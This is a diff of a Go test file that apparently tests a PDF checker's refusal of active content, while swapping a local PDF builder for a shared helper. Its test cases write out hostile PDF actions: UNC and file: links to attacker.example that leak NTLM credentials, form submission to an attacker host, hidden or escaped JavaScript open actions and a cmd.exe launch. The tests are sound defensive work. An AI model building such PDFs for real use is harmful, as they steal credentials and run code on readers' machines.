@@ -25,23 +25,6 @@ func rvPage(catalogExtra, pageExtra string) []string {
 	}
 }
 
-func rvClassic(objs []string) []byte {
-	var b bytes.Buffer
-	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
-	offsets := make([]int, len(objs))
-	for i, o := range objs {
-		offsets[i] = b.Len()
-		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
-	}
-	xref := b.Len()
-	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
-	for _, off := range offsets {
-		fmt.Fprintf(&b, "%010d 00000 n \n", off)
-	}
-	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, xref)
-	return b.Bytes()
-}
-
 func rvZlib(s string) []byte {
 	var z bytes.Buffer
 	zw := zlib.NewWriter(&z)
@@ -56,14 +39,14 @@ func rvStream(dict string, data []byte) string {
 
 // rvActionPDF: a page PDF whose catalog opens action object 5.
 func rvActionPDF(action string) []byte {
-	return rvClassic(append(rvPage("/OpenAction 5 0 R", ""), action))
+	return samples.Classic(append(rvPage("/OpenAction 5 0 R", ""), action), "")
 }
 
 // rvOrphanObjStm appends, after a valid file's %%EOF, a compressed object
 // stream that no table lists, holding a JavaScript action (object 10) that
 // the catalog's /OpenAction names.
 func rvOrphanObjStm() []byte {
-	base := rvClassic(rvPage("/OpenAction 10 0 R", ""))
+	base := samples.Classic(rvPage("/OpenAction 10 0 R", ""), "")
 	inner := "10 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"
 	z := rvZlib(inner)
 	tail := fmt.Sprintf("9 0 obj\n<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n%%%%EOF\n", len(z), z)
@@ -82,8 +65,8 @@ func TestCheckRefusesActiveContent(t *testing.T) {
 		data []byte
 		want insurance.Reason
 	}{
-		{"XFA form with script", rvClassic(append(rvPage("/AcroForm << /Fields [] /XFA 5 0 R >> /NeedsRendering true", ""), rvStream("", []byte(xfa)))), insurance.ActiveContent},
-		{"XFA form with script, Flate", rvClassic(append(rvPage("/AcroForm << /Fields [] /XFA 5 0 R >>", ""), rvStream("/Filter /FlateDecode", rvZlib(xfa)))), insurance.ActiveContent},
+		{"XFA form with script", samples.Classic(append(rvPage("/AcroForm << /Fields [] /XFA 5 0 R >> /NeedsRendering true", ""), rvStream("", []byte(xfa))), ""), insurance.ActiveContent},
+		{"XFA form with script, Flate", samples.Classic(append(rvPage("/AcroForm << /Fields [] /XFA 5 0 R >>", ""), rvStream("/Filter /FlateDecode", rvZlib(xfa))), ""), insurance.ActiveContent},
 		{"GoToR to a UNC path (NTLM leak)", rvActionPDF("<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"), insurance.ActiveContent},
 		{"GoToE", rvActionPDF("<< /S /GoToE /T << /R /C /N (x) >> >>"), insurance.ActiveContent},
 		{"SubmitForm on open", rvActionPDF("<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/x) >> /Flags 4 >>"), insurance.ActiveContent},
@@ -96,12 +79,12 @@ func TestCheckRefusesActiveContent(t *testing.T) {
 		{"URI file:", rvActionPDF("<< /S /URI /URI (file://attacker.example/share/x) >>"), insurance.ActiveContent},
 		{"URI as hex, f i l e:", rvActionPDF("<< /S /URI /URI <66 69 6c 65 3a 2f 2f 78> >>"), insurance.ActiveContent},
 		{"URI UNC path", rvActionPDF("<< /S /URI /URI (\\\\\\\\attacker.example\\\\x) >>"), insurance.ActiveContent},
-		{"RichMedia annotation", rvClassic(append(rvPage("", "/Annots [5 0 R]"), "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << /Assets << /Names [] >> >> >>")), insurance.ActiveContent},
+		{"RichMedia annotation", samples.Classic(append(rvPage("", "/Annots [5 0 R]"), "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << /Assets << /Names [] >> >> >>"), ""), insurance.ActiveContent},
 		{"orphan compressed object stream with JS", rvOrphanObjStm(), insurance.JavaScript},
 		{"JS OpenAction", rvActionPDF("<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), insurance.JavaScript},
 		{"URI javascript:", rvActionPDF("<< /S /URI /URI (JavaScript:alert\\(1\\)) >>"), insurance.JavaScript},
 		{"JS in object stream, escaped", samples.ObjectStreamPDF("/OpenAction 6 0 R", "<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"), insurance.JavaScript},
-		{"Launch in AA of page", rvClassic(append(rvPage("", "/AA << /O 5 0 R >>"), "<< /S /Launch /F (cmd.exe) >>")), insurance.LaunchAction},
+		{"Launch in AA of page", samples.Classic(append(rvPage("", "/AA << /O 5 0 R >>"), "<< /S /Launch /F (cmd.exe) >>"), ""), insurance.LaunchAction},
 		{"orphan plain JS", samples.OrphanJavaScriptPDF(), insurance.JavaScript},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
@@ -129,7 +112,7 @@ func TestCheckAcceptsWebLinks(t *testing.T) {
 // quickly, not read once each.
 func TestCheckUnendingDictionaries(t *testing.T) {
 	junk := bytes.Repeat([]byte("1 0 obj <<\n"), 400_000) // 4.4 MB
-	data := append(append([]byte("%PDF-1.7\n"), junk...), rvClassic(rvPage("", ""))[9:]...)
+	data := append(append([]byte("%PDF-1.7\n"), junk...), samples.Classic(rvPage("", ""), "")[9:]...)
 	start := time.Now()
 	err := filecheck.New().Check(context.Background(), insurance.PDF, data)
 	if took := time.Since(start); took > time.Second {
